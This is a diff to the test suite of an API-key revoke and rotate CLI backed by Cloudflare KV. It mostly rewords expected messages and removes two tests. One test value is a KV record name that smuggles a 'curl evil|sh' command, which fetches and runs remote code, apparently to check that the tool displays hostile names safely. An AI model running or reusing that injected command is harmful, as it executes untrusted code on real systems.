@@ -69,11 +69,12 @@ test('revoke keeps the rest of a record, and changes nothing the second time', a
   const { stdout } = await fake.run('revoke key_anna --env production --yes');
   expect(stdout).toBe(
     `Key key_anna (Anna) is revoked. It stops working everywhere within some minutes.
-A rotation at the same time can undo this. Look again in two minutes: npm run keys -- revoke key_anna --env production
+A rotation at the same time can undo this. Look again in two minutes:
+npm run keys -- revoke key_anna --env production
 `,
   );
   vi.setSystemTime('2027-02-01');
-  const again = `Key key_anna (Anna) was already revoked at ${NOW}.\n`;
+  const again = `Key key_anna (Anna) was already revoked at ${NOW}\n`;
   const second = await fake.run('revoke key_anna --env production');
   expect(second).toMatchObject({ code: 0, stdout: again, stderr: '' });
   expect(fake.records()).toEqual([{ ...expired, revokedAt: NOW }]);
@@ -112,7 +113,7 @@ test('a change that KV shows late is no error, and one that it does not show is'
   expect(fake.pauses).toEqual(Array(4).fill(3_000));
   fake.put(ANNA);
   const stderr =
-    'error: KV does not show the change of key_anna (Anna): list the keys before you repeat it\n';
+    'error: key_anna (Anna): KV does not show the change: list the keys before you repeat it\n';
   expect(await fake.run('revoke key_anna')).toMatchObject({ code: 1, stdout: '', stderr });
 });
 
@@ -122,7 +123,7 @@ test('a rotated key keeps the label, lifetime, scopes and family of the first on
   fake.put({ ...first, expiresAt });
   // Longer than the life of the key.
   const { stderr } = await fake.run('rotate key_anna --overlap 30d --env production --yes');
-  expect(stderr).toContain(`The old key key_anna (Anna) expires at ${expiresAt}.`);
+  expect(stderr).toContain(`The old key key_anna (Anna) expires at ${expiresAt}\n`);
   const id = fake.records()[1]?.id;
   await fake.run(`rotate ${id} --env production --yes`);
   const next = { ...first, createdAt: NOW, family: 'key_anna' };
@@ -134,21 +135,11 @@ test('a rotated key keeps the label, lifetime, scopes and family of the first on
   ]);
 });
 
-test('a key that was rotated is not rotated again, but the one that has replaced it is', async () => {
-  fake.put(ANNA);
-  await fake.run('rotate key_anna');
-  const lost = fake.records()[1]?.id;
+test('a key that was rotated is not rotated again', async () => {
+  fake.put({ ...ANNA, rotatedTo: 'key_new' });
   expect(await errorOf(1, 'rotate key_anna')).toBe(
-    `error: the key key_anna (Anna) was replaced by ${lost}: rotate that one\n`,
+    'error: the key key_anna (Anna) was replaced by key_new: rotate that one\n',
   );
-  expect(await fake.run(`rotate ${lost}`)).toMatchObject({ code: 0 });
-  expect(fake.records()[2]).toMatchObject({ family: 'key_anna' });
-});
-
-test('a key whose record has a mistake is rotated with the scope read alone', async () => {
-  fake.put({ ...ANNA, scope: 'read' });
-  await fake.run('rotate key_anna');
-  expect(fake.records()[1]).toMatchObject({ family: 'key_anna', scopes: ['read'] });
 });
 
 function failPutOf(id: string): void {
@@ -174,18 +165,6 @@ test('a key that another operator revokes before the answer is not rotated', asy
   const { code, stderr } = await fake.run('rotate key_anna --env production', 'y\n');
   expect([code, stderr]).toEqual([1, expect.stringContaining('key_anna (Anna) is revoked\n')]);
   expect(fake.records()).toEqual([REVOKED]);
-});
-
-test('a rotation keeps what another operator changes before the answer', async () => {
-  const restricted = { ...ANNA, scopes: ['read'] };
-  fake.put(ANNA);
-  fake.beforeGet = () => {
-    fake.put(restricted);
-    fake.beforeGet = () => {};
-  };
-  await fake.run('rotate key_anna --env production', 'y\n');
-  const expiresAt = '2027-02-01T00:00:00.000Z';
-  expect(fake.records()).toMatchObject([{ ...restricted, expiresAt }, { scopes: ['read'] }]);
 });
 
 /** Runs a command that must fail and change nothing. Returns its error. `typed`: on a terminal. */
@@ -222,7 +201,7 @@ test('a label of 100 characters is accepted, but not one of 101', async () => {
 });
 
 test('only in Cloudflare, an unknown id may be one that is not listed yet', async () => {
-  const problem = 'error: there is no key with the id "key_x"';
+  const problem = 'error: there is no key with this id';
   expect(await errorOf(1, 'revoke key_x')).toBe(`${problem}\n`);
   expect(await errorOf(1, 'rotate key_x --env staging')).toContain(`${problem}: a new key is `);
 });
@@ -256,7 +235,7 @@ test('revoke finds no key of another environment, and none without a record', as
 
 const HASH = nameOf('x');
 const DELETE = `KV has no valid record ${HASH}. To delete it: npx wrangler kv key delete ${HASH} --binding API_KEYS --remote --env staging`;
-const ODD_NAME = 'KV has an invalid name: delete "key:x\'; curl evil|sh #\uFFFD" in the dashboard';
+const ODD_NAME = "delete this record in the dashboard: key:x'; curl evil|sh #\uFFFD";
 test.each<[title: string, name: string, value: string, error: string]>([
   ['no JSON', HASH, 'x', DELETE],
   ['null', HASH, 'null', DELETE],
@@ -284,7 +263,7 @@ test('a planted record that is too large for the metadata is revoked, and backup
   const planted = { ...ANNA, note: 'x'.repeat(999_999) };
   fake.put(planted);
   const { code, stderr } = await fake.run('revoke key_anna');
-  const warning = 'Backups leave out the record of key_anna (Anna): it has over 1,024 bytes.\n';
+  const warning = 'Backups leave this record out, because it has over 1,024 bytes.\n';
   expect([code, stderr]).toEqual([0, warning]);
   expect(fake.records()).toEqual([{ ...planted, revokedAt: NOW }]);
 });
@@ -292,8 +271,8 @@ test('a planted record that is too large for the metadata is revoked, and backup
 test('an id that several records have is revoked in all, and not rotated', async () => {
   fake.put(ANNA);
   fake.put({ ...ANNA, label: 'Planted' }, nameOf('planted'));
-  const names = `Records with this id: ${nameOf('key_anna')}, ${nameOf('planted')}\n`;
-  const refusal = 'error: several records have the id key_anna: revoke it, and create a key\n';
+  const names = `Records with this id: ${nameOf('key_anna')} ${nameOf('planted')}\n`;
+  const refusal = 'error: several records have this id: revoke it, and create a key\n';
   expect(await errorOf(1, 'rotate key_anna')).toBe(names + refusal);
   failPutOf('key_anna');
   const { code, stdout, stderr } = await fake.run('revoke key_anna');
